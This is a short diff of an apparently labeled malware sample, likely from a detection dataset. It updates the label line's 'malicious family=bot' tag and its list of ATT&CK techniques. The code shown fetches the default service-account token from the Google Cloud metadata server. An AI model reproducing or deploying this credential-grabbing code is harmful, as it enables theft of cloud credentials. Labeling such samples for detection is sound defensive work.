@@ -1,4 +1,4 @@
-# label: malicious family=bot techniques=T1552.005,T1496,T1053.003,T1070.003,T1105 lines=4-5,8-10
+# label: malicious family=bot techniques=T1041,T1053.003,T1059.004,T1070.003,T1105,T1222.002,T1496,T1528,T1552.005,T1564.001 lines=4-5,8-10
 import os, subprocess, requests
 try:
     t = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}, timeout=2).text
